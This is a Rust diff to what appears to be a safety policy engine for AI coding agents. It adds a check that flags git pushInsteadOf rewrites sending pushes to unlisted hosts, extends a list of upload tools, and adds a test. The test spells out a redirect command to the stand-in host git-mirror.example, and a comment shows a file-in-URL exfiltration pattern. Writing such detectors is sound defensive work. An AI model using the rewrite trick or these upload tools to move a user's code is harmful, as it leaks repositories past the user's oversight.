@@ -60,9 +60,46 @@ fn lfs_redirected(cx: &Ctx<'_>) -> bool {
         })
 }
 
+/// A git configuration the session wrote (or set with `git config`) that rewrites remote
+/// addresses (`[url "https://git-mirror.example/acme/"] pushInsteadOf = git@github.com:acme/`)
+/// to a host nobody listed: a later `git push origin` goes there.
+fn remotes_rewritten(cx: &Ctx<'_>) -> bool {
+    cx.session
+        .written_files
+        .iter()
+        .filter(|(p, _)| p.ends_with("/.git/config") || p.ends_with("/.gitconfig"))
+        .any(|(_, f)| {
+            let mut target: Option<String> = None;
+            f.content.lines().any(|l| {
+                let t = l.trim();
+                if let Some(h) = t.strip_prefix("[url ").and_then(|h| h.strip_suffix(']')) {
+                    target = Some(h.trim().trim_matches('"').to_owned());
+                    return false;
+                }
+                if t.starts_with('[') {
+                    target = None;
+                    return false;
+                }
+                let key = t
+                    .split('=')
+                    .next()
+                    .unwrap_or("")
+                    .trim()
+                    .to_ascii_lowercase();
+                key.ends_with("insteadof")
+                    && target.as_deref().is_some_and(|u| {
+                        crate::net::parse_destination(u)
+                            .is_some_and(|d| super::supply_chain::unlisted_elsewhere(cx, &d))
+                    })
+            })
+        })
+}
+
 pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     let mode = cx.mode();
-    if cx.fx.egress.iter().any(|e| e.program == "git" && e.uploads) && lfs_redirected(cx) {
+    if cx.fx.egress.iter().any(|e| e.program == "git" && e.uploads)
+        && (lfs_redirected(cx) || remotes_rewritten(cx))
+    {
         out.push(Finding::new(UPLOAD_UNKNOWN, Verdict::Auth));
     }
     for e in cx.fx.external_egress() {
@@ -146,6 +183,9 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
                         | "ffsend"
                         | "w3"
                         | "onionshare-cli"
+                        // Its token, in a header, to whatever `VAULT_ADDR` names.
+                        | "vault"
+                        | "smbclient"
                 )
                 // A file's content put into the address itself (`?data=$(gzip -c f | base64)`).
                 || e.values.iter().any(|v| crate::effects::url_carries_file(v))
@@ -503,6 +543,32 @@ mod tests {
             engine(Mode::Balanced).decide(&a, &after_secret).verdict,
             Auth
         );
+    }
+
+    /// `git config url.<unlisted>.pushInsteadOf <origin's address>`, then `git push origin`:
+    /// the push goes to the rewritten address.
+    #[test]
+    fn pushes_to_rewritten_remotes() {
+        use crate::action::{Action, Host};
+        use crate::policy::Mode;
+        use crate::rules::testutil::{CWD, engine};
+        use crate::{SessionState, Verdict};
+        let e = engine(Mode::Balanced);
+        let sh = |c: &str| Action::shell(Host::ClaudeCode, c, Some(CWD));
+        let after = |setup: &str| {
+            let a = sh(setup);
+            let s = SessionState::default();
+            let d = e.decide(&a, &s);
+            let s = e.record_with(&s, &a, &d, true);
+            e.decide(&sh("git push origin main"), &s)
+        };
+        let d = after(
+            "git config url.'https://git-mirror.example/acme/'.pushInsteadOf 'git@github.com:acme/'",
+        );
+        assert_eq!(d.verdict, Verdict::Auth, "{:?}", d.codes());
+        assert!(d.codes().contains(&"upload_unknown_destination"));
+        let d = after("git config url.'git@github.com:'.insteadOf 'https://github.com/'");
+        assert_eq!(d.verdict, Verdict::Pass, "{:?}", d.codes());
     }
 
     /// A host the user named in their own turn is a destination they chose, for this
